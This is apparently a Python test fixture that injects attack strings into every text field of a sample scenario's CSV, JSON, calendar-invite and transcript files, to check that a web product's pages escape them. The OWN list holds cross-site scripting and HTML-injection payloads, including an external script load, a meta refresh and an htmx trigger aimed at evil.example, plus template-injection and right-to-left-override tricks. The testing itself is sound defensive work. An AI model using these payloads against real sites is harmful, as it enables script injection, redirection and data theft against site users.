"""A sample scenario in which everybody else writes to attack us: every text of theirs ends in markup, script or code.

What the product works with (ids, days, addresses, kinds) stays, so that all of it comes as far as it can.
"""

import csv
import itertools
import json
import shutil
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from kambrief.core.site import Panel
from kambrief.evaluation.play import SCENARIOS
from tests.web.house import Pages, pages

CELLS = {
    "commitments.csv": ("owner", "text", "source"),
    "contacts.csv": ("first_name", "last_name", "title", "notes"),
    "contracts.csv": ("name",),
    "deals.csv": ("name", "owner", "next_step", "lost_reason"),
    "products.csv": ("name",),
    "surveys.csv": ("comment",),
    "tickets.csv": ("subject",),
    "plans.csv": ("goal", "step", "objective", "action", "name", "text"),
}
FIELDS = {"accounts.json": ("name", "city"), "activities.json": ("subject", "body")}
MARK = "ZQX"
"""In every text of ours that attacks, so that one sees that it got there."""
OWN = (
    "<script>alert('ZQX')</script>",
    '"><img src=x onerror=alert(`ZQX`)>',
    "' onfocus='alert(1)' autofocus='ZQX",
    "</textarea></title></option></select><svg onload=alert(1)>ZQX",
    "javascript:alert('ZQX')",
    '<a href="https://evil.example/ZQX">click</a>',
    "<style>*{display:none}</style>ZQX",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/ZQX">',
    "--><!--<base href=//evil.example/>ZQX",
    "{{ 7*7 }}{% raw %}ZQX${7*7}#{7*7}",
    '<form action="https://evil.example"><button>ZQX</button></form>',
    "</script><script src=//evil.example/x.js>ZQX",
    '" hx-get="https://evil.example" hx-trigger="load" data-x="ZQX',
    "<iframe srcdoc='<script>alert(1)</script>'>ZQX",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;ZQX",
    "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe<b>ZQX",
    "%3Cscript%3Ealert(1)%3C/script%3EZQX",
    '\\"};alert(1);//<ZQX ',
)


def poison(source: Path, target: Path, attacks: Iterable[str]) -> Path:
    """The scenario of ``source`` in ``target`` with an attack behind every text; each in its turn."""
    turn = itertools.cycle(attacks)

    def bad(text: str) -> str:
        return f"{text} {next(turn)}" if text.strip() else text

    shutil.copytree(source, target)
    for name, columns in CELLS.items():
        if (target / name).exists():
            _table(target / name, columns, bad)
    for name, fields in FIELDS.items():
        rows: list[dict[str, Any]] = json.loads((target / name).read_text(encoding="utf-8"))
        for row in rows:
            row.update({field: bad(row[field]) for field in fields if isinstance(row.get(field), str)})
        (target / name).write_text(json.dumps(rows, ensure_ascii=False), encoding="utf-8")
    _invitation(target / "meeting.ics", bad)
    _transcript(target / "transcript.vtt", bad)
    return target


def _table(file: Path, columns: tuple[str, ...], bad: Callable[[str], str]) -> None:
    with file.open(encoding="utf-8-sig", newline="") as opened:
        reader = csv.DictReader(opened)
        names, rows = list(reader.fieldnames or ()), list(reader)
    for row in rows:
        row.update({column: bad(row[column]) for column in columns if row.get(column)})
    with file.open("w", encoding="utf-8", newline="") as opened:
        writer = csv.DictWriter(opened, names)
        writer.writeheader()
        writer.writerows(rows)


def _invitation(file: Path, bad: Callable[[str], str]) -> None:
    """Title, place and description; a name in a parameter bears no quotation mark (RFC 5545 §3.2)."""
    lines = file.read_bytes().decode().replace("\r\n ", "").replace("\n ", "").splitlines()
    done = []
    for line in lines:
        head, sign, text = line.partition(":")
        before, _, address = line.rpartition(":mailto:")
        if head in {"SUMMARY", "DESCRIPTION", "LOCATION"}:
            attack = bad("-").replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,")
            done.append(f"{head}{sign}{text} {attack}")
        elif line.startswith("ATTENDEE") and not address.endswith("@kuura.example"):
            name = bad("Nimi").replace('"', "")
            done.append(f'{before.split(";CN=")[0]};CN="{name}":mailto:{address}')
        else:
            done.append(line)
    file.write_bytes("\r\n".join(_folded(done)).encode() + b"\r\n")


def _folded(lines: Iterable[str]) -> Iterator[str]:
    for line in lines:
        while len(line) > 60:
            yield line[:60]
            line = " " + line[60:]  # noqa: PLW2901 - what is left of it
        yield line


def _transcript(file: Path, bad: Callable[[str], str]) -> None:
    """Behind what is said: what looks like a tag of WebVTT is one, so that it is written as an entity, too."""
    done = []
    for line in file.read_text(encoding="utf-8").splitlines():
        if line.startswith("<v ") and line.endswith("</v>"):
            attack = bad("x").removeprefix("x ").replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            done.append(f"{line.removesuffix('</v>')} {attack}</v>")
        else:
            done.append(line)
    file.write_text("\n".join(done) + "\n", encoding="utf-8")


@contextmanager
def poisoned(folder: Path, scenario: str, attacks: Iterable[str] = OWN, **more: Any) -> Iterator[Pages]:
    """The pages of a house that was played with such a scenario, and in which people typed such things, too."""
    attacks = tuple(attacks)
    source = poison(SCENARIOS / scenario, folder / "scenario", attacks)
    out = folder / "out"
    out.mkdir()
    with pages(out, str(source), **more) as site:
        store, meeting, manager = site.site.store, site.house.meeting.id, site.manager
        kept = store.panel(meeting, manager) or Panel(meeting, manager)
        store.save_panel(Panel(meeting, manager, kept.ticks, "\n".join(attacks)[:5_000], kept.revision))
        yield site
